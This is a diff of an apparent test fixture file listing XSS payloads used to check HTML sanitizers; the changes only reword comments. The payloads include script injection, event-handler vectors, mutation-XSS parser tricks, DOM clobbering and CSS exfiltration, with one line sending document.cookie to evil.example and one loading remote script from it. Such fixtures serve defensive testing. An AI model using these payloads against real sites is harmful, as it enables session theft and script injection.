@@ -1,4 +1,7 @@
-/** Ways in which HTML has smuggled script past sanitizers; used by tests on both sides of the allow-list. */
+/**
+ * HTML that has smuggled script past sanitizers. Tests of the server's cleaning and of the page's tree both
+ * use it.
+ */
 export const xssPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -72,7 +75,7 @@ export const xssPayloads: readonly string[] = [
   '\u003c\u0000script>alert(1)</script>',
   '<a\u00a0href=javascript:alert(1)>x</a>',
   '<custom-element onclick=alert(1)>x</custom-element>',
-  // Handlers that need no click.
+  // Event handlers that run without a click.
   '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
   '<img/src/onerror=alert(1)>',
   '<img src=x onerror=alert`1`>',
@@ -110,7 +113,7 @@ export const xssPayloads: readonly string[] = [
   '<ſcript>alert(1)</ſcript>',
   '<scrıpt>alert(1)</scrıpt>',
 
-  // Addresses.
+  // Addresses that run script or leave the site.
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" \x01javascript:alert(1)">x</a>',
   '<a href="java\nscript:alert(1)">x</a>',
@@ -140,7 +143,7 @@ export const xssPayloads: readonly string[] = [
   '<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">',
   '<meta http-equiv="Content-Security-Policy" content="script-src *">',
 
-  // Styles.
+  // Styles that load something.
   '<style>p{background:url("https://evil.example/")}</style>',
   '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
   '<p style="background:url(https://evil.example/)">x</p>',
@@ -155,7 +158,7 @@ export const xssPayloads: readonly string[] = [
   '<p style="--x: url(https://evil.example/); color: var(--x)">x</p>',
   '<p style="margin-left: 40px; margin-left: -9999px">x</p>',
 
-  // What a parser reads otherwise the second time.
+  // HTML that a parser reads differently the second time.
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<svg><desc><noscript><p title="</noscript><img src onerror=alert(1)>"></desc></svg>',
   '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
@@ -181,7 +184,7 @@ export const xssPayloads: readonly string[] = [
   '<p>\u2028<script>alert(1)</script>\u2029</p>',
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
 
-  // Names that reach into the page.
+  // Names and values that reach into the page's own script.
   '<p id=__proto__ data-constructor=1 is=x-y slot=z part=p nonce=n>x</p>',
   '<a name=getElementById></a><form name=body><input name=firstChild></form>',
   '<span data-lexical-editor=true data-block=x contenteditable=true>x</span>',
